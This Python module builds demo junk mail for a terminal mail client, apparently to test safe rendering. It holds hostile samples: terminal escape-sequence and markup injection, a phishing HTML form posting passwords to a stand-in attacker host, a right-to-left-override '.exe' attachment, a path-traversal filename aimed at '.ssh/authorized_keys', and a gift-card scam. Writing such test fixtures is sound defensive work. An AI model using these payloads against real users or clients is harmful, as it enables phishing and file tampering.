"""Unwanted mail: the plain kind from `mail/spam.toml`, and the hostile kind that tries the terminal or the eye.

Nothing here is dangerous to a program that treats mail as text. Everything is something that mail has done to programs.
"""

from __future__ import annotations

import tomllib
from collections.abc import Iterator
from datetime import datetime
from email.utils import parseaddr
from importlib.resources import files

from tuimail.demo.builder import (
    Part,
    SampleMessage,
    address_field,
    date_field,
    field,
    file_part,
    message,
    multipart,
    text_part,
)
from tuimail.demo.clock import before, message_id
from tuimail.demo.conversations import DELIVERY_TIME
from tuimail.demo.people import OWNER
from tuimail.model.address import Address

RIGHT_TO_LEFT_OVERRIDE = "\u202e"
ESCAPE = "\x1b"
BELL = "\x07"
C1_CSI = "\x9b"
MAILBOX = "Junk"


def junk(now: datetime) -> Iterator[SampleMessage]:
    """All of it."""
    spam = files("tuimail.demo") / "mail" / "spam.toml"
    for entry in tomllib.loads(spam.read_text("utf-8"))["spam"]:
        sender = Address(*parseaddr(entry["from"]))
        yield _unwanted(now, entry["age"], sender, entry["subject"], text_part(entry["text"]))
    yield from _terminal_attacks(now)
    yield from _disguises(now)


def _terminal_attacks(now: datetime) -> Iterator[SampleMessage]:
    sender = Address("Terminal Trouble", "trouble@attack.example.com")
    harmless = text_part("The subject of this message tries to write outside its line.\n")
    screen = f"{ESCAPE}[2J{ESCAPE}[31mYour screen was cleared{ESCAPE}[0m"
    yield _unwanted(now, "2d6h", sender, screen, harmless)
    title = f"{ESCAPE}]0;owned{BELL}Window title{ESCAPE}]8;;http://attack.example.com{BELL}a link{ESCAPE}]8;;{BELL}"
    yield _unwanted(now, "2d7h", sender, title, harmless)
    yield _unwanted(now, "2d8h", sender, f"{C1_CSI}31mEight-bit control{C1_CSI}0m", harmless)
    yield _unwanted(now, "2d12h", sender, "[/x] [bold red]Markup[/] [@click=app.quit]press me[/] [[", harmless)
    body = text_part(
        f"{ESCAPE}[?1049h{ESCAPE}[1;1HA body that would draw where it likes.\rOVERWRITTEN\n", encoding="base64"
    )
    yield _unwanted(now, "5d9h", sender, "Body with control sequences", body)
    name = Address(f"{ESCAPE}[7mInverse{ESCAPE}[0m", "inverse@attack.example.com")
    yield _unwanted(now, "5d10h", name, "A display name in inverse video", harmless)


def _disguises(now: datetime) -> Iterator[SampleMessage]:
    bank = Address("service@bank.example.org", "kjh3412@attack.example.net")
    login = (
        '<html><body><h1>Your account is <font color="red">closed</font></h1>'
        '<form action="http://attack.example.net/steal"><input name="password"><button>Open</button></form>'
        '<script>document.location="http://attack.example.net/"</script>'
        '<p><a href="http://attack.example.net/login">https://bank.example.org/login</a></p>'
        '<img src="http://attack.example.net/pixel.gif?robin" width="1" height="1" onerror="alert(1)"></body></html>\n'
    )
    yield _unwanted(now, "23h", bank, "Security notice", text_part(login, subtype="html"))
    director = Address("Ines Albrandt <ines.albrandt@museum.example.org>", "director.office@attack.example.net")
    hurry = text_part("Are you at your desk? I need twelve gift cards before noon. Do not phone me.\n")
    yield _unwanted(now, "1d14h", director, "Quick favour", hurry)
    reversed_name = f"invoice_{RIGHT_TO_LEFT_OVERRIDE}fdp.exe"
    letter = text_part("Please find the invoice attached, as agreed with nobody.\n")
    file = file_part("application/octet-stream", b"This is not a program.\n", filename=reversed_name)
    content = multipart("mixed", [letter, file], "=_invoice")
    subject = f"Invoice {RIGHT_TO_LEFT_OVERRIDE}gnihton rof si siht"
    yield _unwanted(now, "4d2h", Address("Billing", "billing@attack.example.com"), subject, content)
    path = file_part("text/plain", b"key\n", filename="../../.ssh/authorized_keys")
    content = multipart("mixed", [text_part("A file that wants to be saved elsewhere.\n"), path], "=_path")
    yield _unwanted(now, "8d19h", Address("Files", "files@attack.example.com"), "A file for you", content)
    zalgo = "F" + "\u0301\u0322\u0353\u035c" * 12 + "r" + "\u0337\u0316" * 12 + "ee offers"
    yield _unwanted(now, "11d2h", Address("Stacked", "stack@attack.example.com"), zalgo, letter)
    broken = Part(
        field("Content-Type", 'multipart/mixed; boundary="=_never"'),
        b"--=_never\r\nContent-Type: text/plain\r\n\r\nThis multipart never ends.\r\n",
    )
    yield _unwanted(now, "15d8h", Address("Unfinished", "half@attack.example.com"), "Unfinished business", broken)


def _unwanted(now: datetime, age: str, sender: Address, subject: str, content: Part) -> SampleMessage:
    when = before(now, age)
    fields = [
        address_field("From", [sender]),
        address_field("To", [OWNER]),
        field("Subject", subject),
        date_field(when),
        field("Message-ID", message_id(f"junk/{age}/{subject}", sender.address.partition("@")[2])),
        field("X-Spam-Flag", "YES"),
    ]
    return SampleMessage(MAILBOX, message(fields, content), ("$Junk",), when + DELIVERY_TIME)
